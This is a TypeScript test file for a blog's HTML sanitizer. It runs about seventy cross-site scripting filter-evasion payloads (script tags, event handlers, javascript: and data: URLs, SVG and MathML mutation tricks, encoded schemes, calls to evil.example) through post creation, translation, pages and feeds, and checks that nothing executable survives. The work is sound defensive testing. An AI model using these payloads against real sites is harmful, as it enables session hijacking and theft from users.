import { Parser } from 'htmlparser2';
import sax from 'sax';
import { beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { StaffPost } from '#shared/content/blog-form.ts';
import { createTestApp } from '#tests/app.ts';
import { type Client, sendJson } from '#tests/client.ts';
import { signedIn } from '#tests/factories.ts';
import { sanitizePost, showPost } from './blog.html.ts';

// Whatever a staff account, stolen or careless, writes into a post, nothing of it must run where the post is shown.
const app = await createTestApp();
let staff: Client;
/** What every page has of ours. */
let ours: Found;
beforeAll(async () => {
  ours = activeIn(await (await app.client().get('/about?lng=en')).text());
});
beforeEach(async () => {
  await app.reset();
  staff = await signedIn(app);
});

const run = 'alert(1)';
/** Known ways to bring a script past a filter, one of each kind. */
const payloads = [
  `<script>${run}</script>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<img src=x onerror=${run}>`,
  `<img src="/media/a.webp" onerror="${run}">`,
  `<img src="/media/a.webp" alt="\`onerror=${run}//">`,
  `<img src='/media/a.webp' alt='x" onerror="${run}'>`,
  `<img src="https://a.example/a.png" alt="--><script>${run}</script>">`,
  `<img src="javascript:${run}">`,
  `<img src="https://a.example/x.png&quot; onerror=&quot;${run}">`,
  `<img srcset="javascript:${run} 1x" src="/media/a.webp">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:${run} /></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>">`,
  `<title><img title="</title><img src=x onerror=${run}>">`,
  `<style>@import 'https://evil.example/x.css'; *{background:url(javascript:${run})}</style>`,
  `<style><img src="</style><img src=x onerror=${run}//">`,
  `<p style="background:url(javascript:${run});position:fixed;inset:0">x</p>`,
  `<p style="text-align:center;--x:${run}" class="is-center evil" id="evil" onclick="${run}">x</p>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="JaVaScRiPt:${run}">x</a>`,
  `<a href="java&#10;script:${run}">x</a>`,
  `<a href="&#1;javascript:${run}">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;${run}">x</a>`,
  `<a href=" javascript&colon;${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`,
  `<a href="https://ok.example" onmouseover="${run}" style="x" ping="https://evil.example">x</a>`,
  `<a href='https://ok.example/"onmouseover="${run}'>x</a>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${run}&lt;/script&gt;"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<form action="javascript:${run}"><input type=submit formaction="javascript:${run}"></form>`,
  `<button onclick="${run}">x</button>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video src="/media/a.mp4" onloadstart=${run} poster="javascript:${run}"></video>`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<body onload=${run}>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<template><script>${run}</script></template>`,
  `<!--><script>${run}</script>-->`,
  `<!--[if IE]><script>${run}</script><![endif]-->`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml-stylesheet href="javascript:${run}"?>`,
  `<x onclick=${run}>x</x>`,
  `<h2 class="is-center" onclick="${run}"><img src=x onerror=${run}>Head</h2>`,
  `<h2>&lt;script&gt;${run}&lt;/script&gt;</h2>`,
  `<table><caption onclick=${run}>x</caption><tr><td background="javascript:${run}">x</td></tr></table>`,
  `<p lang='"><script>${run}</script>'>x</p>`,
  `</div></article></main><script>${run}</script>`,
  `]]><script>${run}</script><![CDATA[`,
  `</script><script>${run}</script>`,
  `" onmouseover="${run}" x="`,
  `' onmouseover='${run}' x='`,
  `\u2028</script>\u2029<img src=x onerror=${run}>`,
  `<\0script>${run}</script>`.replace('\0', ''),
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `{{constructor.constructor('${run}')()}}`,
  `$\{${run}}`,
  `%3Cscript%3E${run}%3C/script%3E`,
];

/** Elements that run, load or send something; some of them occur in our own pages. */
const active =
  'script style iframe frame object embed applet form input button textarea select base meta link svg math template noscript title marquee audio source body html'.split(
    ' ',
  );
/** Attributes that contain an address. */
const addresses = new Set([
  'href',
  'src',
  'poster',
  'action',
  'formaction',
  'data',
  'xlink:href',
  'background',
]);

type Found = {
  scripts: string[];
  handlers: string[];
  odd: string[];
  elements: Set<string>;
  styles: string[];
};

/** Everything in a document that could run. */
function activeIn(html: string): Found {
  const found: Found = { scripts: [], handlers: [], odd: [], elements: new Set(), styles: [] };
  let script: string | null = null;
  const parser = new Parser({
    onopentag(name, attributes) {
      found.elements.add(name);
      if (name === 'script') script = '';
      for (const [attribute, value] of Object.entries(attributes)) {
        if (attribute.startsWith('on')) found.handlers.push(`${name} ${attribute}`);
        if (attribute === 'style' || attribute === 'srcdoc') found.styles.push(`${name} ${attribute}`);
        // oxlint-disable-next-line eslint/no-control-regex -- browsers ignore these characters
        const address = value.replaceAll(/[\u0000-\u0020]/g, '').toLowerCase();
        if (addresses.has(attribute) && !/^(https?:|mailto:|tel:|[/#?]|data:image\/|$)/.test(address))
          found.odd.push(`${name} ${attribute}=${value}`);
      }
    },
    ontext: (text) => {
      if (script !== null) script += text;
    },
    onclosetag: (name) => {
      if (name === 'script' && script !== null) {
        found.scripts.push(script);
        script = null;
      }
    },
  });
  parser.end(html);
  return found;
}

describe('a text', () => {
  test.each(payloads)('keeps nothing that runs: %s', (payload) => {
    for (const text of [payload, `<p>a</p>${payload}<p>b</p>`, `<p>${payload}</p>`, `<h2>${payload}</h2>`]) {
      const clean = sanitizePost(text);
      for (const html of [clean, showPost(clean, new Map()).html, sanitizePost(clean)]) {
        const { handlers, odd, elements, styles } = activeIn(html);
        expect({ handlers, odd, styles }).toEqual({ handlers: [], odd: [], styles: [] });
        expect(active.filter((name) => elements.has(name))).toEqual([]);
        expect(html).not.toMatch(/ id="(?!section-\d+")| class="[^"]*evil/);
      }
    }
  });
});

const picture = (url: string, alt: string) => ({
  fileName: 'a',
  originalName: alt.slice(0, 200),
  mimeType: 'image/png',
  fileSize: 1,
  storageUrl: url,
  mediaType: 'image',
  altText: alt,
  caption: alt,
});

test.each(payloads)('a post full of %s runs nothing, on no page and in no feed', async (payload) => {
  const made = await staff.post('/api/blog', {
    title: `Title ${payload}`.slice(0, 200),
    excerpt: payload,
    content: `<p>Text</p>${payload}`,
    metaDescription: payload.slice(0, 155),
    metaKeywords: payload,
    tags: [payload.replaceAll(/[,，、]/g, '').slice(0, 60)],
    featuredImageUrl: 'https://pictures.example/a.png',
    featuredImageAlt: payload,
    status: 'published',
  });
  expect(made.status, await made.clone().text()).toBe(201);
  const post = (await made.json()) as StaffPost;
  const media = await staff.post(
    `/api/blog/${post.id}/media`,
    picture('https://pictures.example/b.png', payload),
  );
  expect(media.status).toBe(201);
  const translated = await sendJson(staff, 'PUT', `/api/blog/${post.id}/translations/fr`, {
    title: `Titre ${payload}`.slice(0, 200),
    excerpt: payload,
    content: `<p>Texte</p>${payload}`,
    metaDescription: payload.slice(0, 155),
    isPublished: true,
    savedAt: null,
  });
  expect(translated.status).toBe(200);

  const search = encodeURIComponent(payload.slice(0, 100));
  for (const [client, path] of [
    [app.client(), `/blog/${post.slug}?lng=en`],
    [app.client(), `/blog/${post.slug}?lng=fr`],
    [app.client(), `/blog?lng=en&search=${search}`],
    [staff, `/admin/blog-management?search=Title`],
  ] as const) {
    const response = await client.get(path);
    expect([path, response.status]).toEqual([path, 200]);
    expect(response.headers.get('content-security-policy')).toMatch(/script-src 'self'(?!.*unsafe)/);
    const html = await response.text();
    const { handlers, odd, styles, elements, scripts } = activeIn(html);
    expect({ path, handlers, odd, styles }).toEqual({
      path,
      handlers: ours.handlers,
      odd: [],
      styles: ours.styles,
    });
    for (const name of ['iframe', 'object', 'embed', 'base', 'marquee', 'math'])
      expect([name, elements.has(name)]).toEqual([name, false]);
    // The only scripts are data for React and for search engines, which contain the text, and our own start script.
    for (const script of scripts) expect(script).not.toMatch(/^\s*alert|<\/?script/i);
    expect(html).not.toContain(`<script>${run}`);
  }
  for (const path of ['/feeds/blog.en.rss', '/feeds/blog.fr.atom', '/sitemap-pages.xml']) {
    const response = await app.client().get(path);
    expect(response.status).toBe(200);
    const elements = xmlElements(await response.text());
    for (const name of ['script', 'img', 'svg', 'iframe', 'x']) expect(elements).not.toContain(name);
  }
});

/** Names of a document's elements, as a strict XML parser finds them. */
function xmlElements(xml: string): string[] {
  const names = new Set<string>();
  const parser = sax.parser(true);
  parser.onopentag = ({ name }) => void names.add(name);
  // `close` throws the parse errors.
  parser.write(xml).close();
  return [...names];
}
